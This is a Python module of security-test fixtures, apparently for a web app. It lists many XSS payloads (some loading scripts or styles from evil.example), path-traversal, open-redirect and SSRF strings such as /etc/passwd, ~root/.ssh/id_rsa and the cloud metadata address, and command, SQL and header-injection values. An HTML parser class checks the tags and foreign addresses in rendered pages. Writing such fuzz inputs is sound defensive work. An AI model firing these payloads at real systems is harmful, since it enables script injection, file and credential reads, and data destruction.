"""What somebody types who means harm, and what a page is made of: its tags, attributes and addresses."""

# ruff: noqa: E501 - payloads stand as they are sent

from html.parser import HTMLParser

MARKUP = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<script\x20type=module>import('//evil.example')</script>", "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img src=x:x onerror=`alert(1)`>", "<IMG SRC=javascript:alert(1)>",
    "<img src='//evil.example/pixel'>", "<image src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'>x</a>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mtext><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>", "<form action=//evil.example><button>저장</button></form>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<a href=javascript:alert(1)>눌러</a>", "<a href='data:text/html,<script>alert(1)</script>'>x",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>", "<button formaction=javascript:alert(1)>x</button>",
    "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
    "\" autofocus onfocus=alert(1) x=\"", "` onmouseover=`alert(1)", "javascript:alert(1)", "-->\n<script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "<% print(1) %>",
    "{{ 7*7 }}{{ config }}", "{% raw %}{{ self }}{% endraw %}", "${7*7}#{7*7}", "{{constructor.constructor('alert(1)')()}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "＜script＞alert(1)＜/script＞", "<ｓcript>alert(1)</script>",
    "<div hx-get='/logout' hx-trigger='load'></div>", "<div hx-on:load='alert(1)' data-hx-post='/households'></div>",
    "<x-y onclick=alert(1) tabindex=1 autofocus>", "<table background='//evil.example'><tr><td>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>", "<keygen autofocus onfocus=alert(1)>", "a" * 300 + "<b>",
    "=cmd|'/c calc'!A1<b>", "<dialog open>로그인이 끝났습니다</dialog>",
)  # fmt: skip
# Addresses and paths where a name is expected.
PLACES = (
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "//evil.example/x", "/\\evil.example", "\\\\evil\\x",
    "file:///etc/passwd", "file:../x", "http://evil.example/", "https:evil.example", "https://evil.example\\@testserver/",
    "s3://evil/x", "gs://evil/x", "dbfs:/x", "models:/need/1", "runs:/x/model", "mlflow-artifacts:/x", "ftp://evil.example",
    "http://169.254.169.254/latest/meta-data/", "http://[::1]:1/", "http:///evil.example", "////evil.example", "/%2f/evil.example",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd", "..;/..;/", "....//....//etc/passwd", "need-1/../../x",
    "need-1#x", "need-1?x=1", "./need-1", "need-1/", "need-1%00.json", "con", "nul", "~root/.ssh/id_rsa", "$HOME/x", "`id`", "$(id)",
    "|id", ";id", "2026-W47/../../x", "4128151000/..", "javascript:alert(1)", "data:text/html,x", "//evil.example%2f..", "/\t/evil.example",
    "\t//evil.example", " //evil.example", "/ /evil.example", "http:/evil.example", "///\\evil.example", "/..//evil.example", "/.//evil.example",
    "@evil.example", "/@evil.example", "https://testserver@evil.example", "/login?next=//evil.example", "*", "", ".", "..", "-", "_",
)  # fmt: skip
# What breaks programs that expect a number, a day or a word.
ODD = (
    "9" * 30, "-1", "1e9", "NaN", "0x10", "١٢٣", "²", "1_0", "a\x00b", "\x00", "\r\nset-cookie: x=1", "\u202eabc", "\ufeff", "가" * 2_000,
    "\ud7ff\ue000", "2026-02-30", "0000-00-00", "9999-W99", "2026-W60", "4" * 4_301, "true", "null", "[]", "{}", "a b", "😀" * 40, "' OR 1=1 --",
    "'; DROP TABLE trail; --", "\") OR 1=1 --", "%", "_%", "\\", "999999999999999999", "18446744073709551616", "9223372036854775808",
)  # fmt: skip

_ADDRESSES = ("href", "src", "action", "formaction", "data", "poster", "hx-get", "hx-post", "xlink:href", "background")


class Shape(HTMLParser):
    """The tags of a page with the names of their attributes, the addresses in it, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[tuple[str, ...]] = set()
        self.addresses: set[str] = set()
        self.text: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags |= {(tag, name) for name, _ in attrs} | {(tag,)}
        self.addresses |= {value or "" for name, value in attrs if name in _ADDRESSES}
        self.text += [value for _, value in attrs if value]

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def unknown_decl(self, data: str) -> None:
        self.tags.add((f"declaration {data[:10]}",))

    def handle_pi(self, data: str) -> None:
        self.tags.add(("instruction",))

    def handle_comment(self, data: str) -> None:
        self.tags.add(("comment",))

    @property
    def foreign_addresses(self) -> set[str]:
        """Those that lead anywhere but into this site."""
        return {
            one for one in self.addresses if not (one.startswith(("/", "#", "?")) and not one.startswith(("//", "/\\")))
        }
